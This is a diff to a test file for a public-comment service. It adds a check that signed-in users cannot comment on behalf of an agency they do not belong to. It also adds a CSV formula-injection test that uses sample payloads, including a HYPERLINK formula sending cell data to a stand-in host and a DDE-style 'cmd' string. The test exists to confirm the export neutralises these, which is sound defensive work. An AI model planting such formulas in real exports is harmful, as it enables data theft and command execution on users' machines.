@@ -1,7 +1,7 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, expect, test } from 'vitest';
-import { office, officerOf, openPlanWorld, type PlanWorld } from './plan-world.ts';
+import { board, office, officerOf, openPlanWorld, type PlanWorld } from './plan-world.ts';
 
 const cycle = '2025-2026';
 const messages = join(import.meta.dirname, '..', 'golden', 'mail');
@@ -67,6 +67,11 @@ test('row-18 anyone comments on a named item without an account; an agency comme
   // Nobody can speak for an agency without being of it.
   const claimed = await comment({ item: 'ethical-use', body: 'As the agency I say so.', agency: 'DOL' });
   expect([claimed.status, claimed.json.code]).toEqual([422, 'plan.unfit']);
+  // To have signed in is not enough: not without a role, not by a role of the state, not by one of another agency.
+  for (const as of [{ ...board, roles: [] }, board, officerOf('DOT')]) {
+    const asked = await comment({ item: 'ethical-use', body: 'As the agency I say so.', agency: 'DOL' }, as);
+    expect([as.roles, asked.status, asked.json.code]).toEqual([as.roles, 422, 'plan.unfit']);
+  }
   const docket = (await get('/comments')).json;
   expect(
     docket.comments.map((line: { number: number; agency: string | null }) => [line.number, line.agency]),
@@ -379,6 +384,17 @@ test('abuse is withheld with a public reason and a record; what was withheld can
   expect((await get('/comments?contains=abuse')).json.total).toBe(0);
   await post('/comments/1/moderate', { act: 'show', reason: 'On appeal.' });
   expect((await get('/comments/1')).json).toMatchObject({ state: 'shown', disposition: null });
+});
+
+test('attack: words that a spreadsheet would carry out are written so that it does not', async () => {
+  for (const body of ['=HYPERLINK("http://x.example/"&A1)', '+1+cmd|x', '@SUM(A1)', '-2+3', 'Plain words.'])
+    await comment({ body, name: '=1+1' });
+  const lines = (await get('/comments.csv')).text.trimEnd().split('\r\n').slice(1);
+  expect(lines).toHaveLength(5);
+  // No cell, quoted or not, begins with a sign that starts a formula.
+  for (const line of lines) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
+  expect(lines.join()).toContain(`"'=HYPERLINK(""http://x.example/""&A1)"`);
+  expect(lines.join()).toContain('Plain words.');
 });
 
 test('comments are shown escaped', async () => {
